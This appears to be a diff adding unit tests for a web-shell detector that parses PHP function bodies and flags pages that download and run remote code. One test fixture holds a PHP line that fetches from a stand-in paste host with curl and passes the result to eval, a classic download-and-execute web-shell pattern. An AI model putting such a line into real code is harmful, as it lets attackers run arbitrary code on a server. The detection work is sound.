@@ -1,0 +1,50 @@
+/**
+ * The page's own functions read by their bodies (code-text.ts's ownFunctions), not by a
+ * window of characters after their names: what the downloaded-code, socket, wrapper and
+ * writable-folder rules ask of "a function of the page's own".
+ */
+import { describe, expect, it } from 'vitest';
+import { ownFunctions } from '../../src/findings/web-shell/code-text.js';
+import { downloadedCode } from '../../src/findings/web-shell/downloaded-code.js';
+
+describe('ownFunctions', () => {
+  it('gives each named function its parameters and its body, to the matching brace', () => {
+    const text = `<?php
+interface Getter { function get($u); }
+function get($url, $opts = array()) { if ($opts) { $x = 1; } return curl_exec($url); }
+Function Shout($s) { echo strtoupper($s); }`;
+    const found = ownFunctions(text);
+    // The interface's declaration has no body: the next function's is not lent to it.
+    expect(found.map((f) => f.name)).toEqual(['get', 'Shout']);
+    expect(found[0]).toMatchObject({ params: '$url, $opts = array(' });
+    expect(found[0]!.body).toBe('{ if ($opts) { $x = 1; } return curl_exec($url); ');
+    expect(text[found[0]!.end]).toBe('}');
+  });
+
+  it('bounds what it reads: a body to maxBody characters, functions to limit', () => {
+    const many = Array.from({ length: 50 }, (_, i) => `function f${i}() { return ${i}; }`).join(
+      '\n',
+    );
+    expect(ownFunctions(many, 10)).toHaveLength(10);
+    const long = `function big() {${' '.repeat(10_000)}}`;
+    expect(ownFunctions(long, 10, 100)[0]!.body.length).toBeLessThan(100);
+  });
+});
+
+describe('downloaded code, through a fetching function of the page', () => {
+  const padding = `  // ${'.'.repeat(900)}\n`;
+  it('finds a fetch far into a long function, and not in the function after a short one', () => {
+    const long = `<?php
+function grab($u) {
+${padding}  $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c);
+}
+eval('?>' . grab('https://paste.example/raw/x'));`;
+    expect(downloadedCode(long).isRun).toBe(true);
+    // A formatter followed by a fetcher: the formatter fetches nothing, whatever is near it.
+    const near = `<?php
+function label($s) { return ucfirst($s); }
+function fetchNews($u) { return file_get_contents($u); }
+eval(label('https://cdn.example/app.js'));`;
+    expect(downloadedCode(near).isRun).toBe(false);
+  });
+});
